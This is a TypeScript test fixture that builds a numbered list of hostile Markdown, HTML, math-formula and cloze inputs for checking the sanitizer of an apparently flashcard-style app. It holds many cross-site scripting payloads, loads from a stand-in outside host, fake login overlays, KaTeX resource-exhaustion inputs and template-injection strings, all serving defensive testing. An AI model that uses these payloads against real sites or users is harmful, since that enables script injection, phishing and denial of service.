// What somebody might put into a card to run a script, to load something from elsewhere, or to look like the app. As
// Markdown that is typed, and as HTML that an import brings: `{n}` is the number of the text, so that a test can tell
// which one got through.

/** Sets a flag that no text may ever set. */
const RUN = "window.__ran({n})";
const ELSEWHERE = "https://elsewhere.example/{n}";

const events =
  "onerror onload onclick onfocus onmouseover onanimationstart ontoggle onbegin onpointerenter onwheel".split(" ");

const elements = [
  `<script>${RUN}</script>`,
  `<script src="${ELSEWHERE}.js"></script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script\n>${RUN}</script\n>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
  `<svg><image href="${ELSEWHERE}.png"/></svg>`,
  `<math><mtext></mtext><mglyph><style></math><img src onerror=${RUN}>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><maction actiontype="statusline#${ELSEWHERE}" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.__ran({n})</script>"></iframe>`,
  `<iframe src="${ELSEWHERE}"></iframe>`,
  `<object data="${ELSEWHERE}"></object>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="${ELSEWHERE}">`,
  `<link rel=stylesheet href="${ELSEWHERE}.css">`,
  `<link rel=prefetch href="${ELSEWHERE}">`,
  `<style>@import "${ELSEWHERE}.css";</style>`,
  `<style>*{background:url(${ELSEWHERE}.png)}</style>`,
  `<div style="background:url(${ELSEWHERE}.png)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:9999">Tu sesión ha terminado</div>`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="${ELSEWHERE}/">`,
  `<form action="${ELSEWHERE}"><input name=p><button>Entrar</button></form>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video src="${ELSEWHERE}.mp4" autoplay></video>`,
  `<audio src="${ELSEWHERE}.mp3" autoplay onerror=${RUN}></audio>`,
  `<video><source src="${ELSEWHERE}.mp4" onerror=${RUN}></video>`,
  `<video poster="${ELSEWHERE}.png"></video>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${ELSEWHERE}.png">`,
  `<img srcset="${ELSEWHERE}.png 1x">`,
  `<picture><source srcset="${ELSEWHERE}.png"><img src=x></picture>`,
  `<IMG SRC=JaVaScRiPt:${RUN}>`,
  `<img src="x\` \`<script>${RUN}</script>"\` \`>`,
  `<body background="${ELSEWHERE}.png" onload=${RUN}>`,
  `<table background="${ELSEWHERE}.png"><tr><td>x</td></tr></table>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml-stylesheet href="${ELSEWHERE}.css"?>`,
  `<!DOCTYPE html SYSTEM "${ELSEWHERE}.dtd">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="${ELSEWHERE}" ping="${ELSEWHERE}/ping">x</a>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<dialog open><h1>Inicia sesión</h1></dialog>`,
  `<portal src="${ELSEWHERE}"></portal>`,
  `<slot onslotchange=${RUN}></slot>`,
  ...events.map((event) => `<b tabindex=0 style="animation:spin 1s" ${event}="${RUN}">x</b>`),
];

const schemes = [
  "javascript:",
  "JaVaScRiPt:",
  " javascript:",
  "java\tscript:",
  "java&#x0A;script:",
  "&#106;avascript:",
  "&#x6A&#x61vascript:",
  "javascript&colon;",
  "javascript&#58;",
  "\\javascript:",
  "%6Aavascript:",
  "vbscript:",
  "data:text/html,<script>parent.__ran({n})</script>,",
  "data:image/svg+xml,<svg onload=alert(1)>,",
  "blob:",
  "file:///",
  "//elsewhere.example/",
  "view-source:",
  "intent:",
];

const links = [
  ...schemes.map((scheme) => `[enlace](${scheme}${RUN})`),
  ...schemes.slice(0, 8).map((scheme) => `[enlace](<${scheme}${RUN}>)`),
  ...schemes.slice(0, 8).map((scheme) => `[enlace][l{n}]\n\n[l{n}]: ${scheme}${RUN}`),
  `<javascript:${RUN}>`,
  `<data:text/html,x>`,
  `[enlace](https://elsewhere.example "x" onclick="${RUN}")`,
  `[enlace](https://elsewhere.example"onmouseover="${RUN})`,
  `[a](<https://elsewhere.example/"onclick=${RUN}>)`,
  `nota[^n{n}]\n\n[^n{n}]: <img src=x onerror=${RUN}>`,
];

const images = [
  `![x](${ELSEWHERE}.png)`,
  `![x](//elsewhere.example/{n}.png)`,
  `![x](data:image/svg+xml,<svg/onload=alert(1)>)`,
  `![x](javascript:${RUN})`,
  `![x](media:../../../api/auth/logout)`,
  `![x](media:https://elsewhere.example/{n})`,
  `![x](media:${"a".repeat(64)}@elsewhere.example)`,
  `![x](MEDIA:${"a".repeat(64)})`,
  `![x][i{n}]\n\n[i{n}]: ${ELSEWHERE}.png`,
  `![x" onerror="${RUN}](${ELSEWHERE}.png)`,
  `[![x](${ELSEWHERE}.png)](javascript:${RUN})`,
];

const formulas = [
  `$\\href{javascript:${RUN}}{x}$`,
  `$\\href{${ELSEWHERE}}{x}$`,
  `$\\url{javascript:${RUN}}$`,
  `$\\includegraphics{${ELSEWHERE}.png}$`,
  `$\\htmlClass{fixed inset-0}{x}$`,
  `$\\htmlId{root}{x}$`,
  `$\\htmlStyle{position:fixed;inset:0;background:url(${ELSEWHERE}.png)}{x}$`,
  `$\\htmlData{onclick=${RUN}}{x}$`,
  `$\\color{url(${ELSEWHERE})}x$`,
  `$\\text{<img src=x onerror=${RUN}>}$`,
  `$<script>${RUN}</script>$`,
  `$\\unicode{<script>${RUN}</script>}$`,
  `$\\rule{100000em}{100000em}$`,
  `$\\kern100000em x \\raise100000em{x}$`,
  `$\\def\\a{\\a\\a}\\a$`,
  `$\\def\\b{\\b}\\b$`,
  `$$\\begin{matrix}${"x&".repeat(300)}\\end{matrix}$$`,
  `\\(\\href{javascript:${RUN}}{x}\\)`,
  `\\[\\htmlStyle{position:fixed}{x}\\]`,
  "```math\n\\href{javascript:alert(1)}{x}\n```",
];

const others = [
  `\`<img src=x onerror=${RUN}>\``,
  `\`\`\`html\n<img src=x onerror=${RUN}>\n\`\`\``,
  `\`\`\`"><img src=x onerror=${RUN}>\nx\n\`\`\``,
  `\`\`\`js onload=${RUN}\nx\n\`\`\``,
  `| <img src=x onerror=${RUN}> |\n|---|\n| x |`,
  `# <img src=x onerror=${RUN}>`,
  `- [x] <script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\\<img src=x onerror=${RUN}>`,
  `\u202e<img src=x onerror=${RUN}>`,
  `{{c1::<img src=x onerror=${RUN}>::<script>${RUN}</script>}}`,
  `{{c1::x::![x](${ELSEWHERE}.png)}}`,
  `[{{c1::x}}](javascript:${RUN})`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
];

const numbered = (texts: readonly string[]) => texts.map((text, index) => text.replaceAll("{n}", String(index)));

export const hostileMarkdown = numbered([...elements, ...links, ...images, ...formulas, ...others]);
export const hostileHtml = numbered(elements);
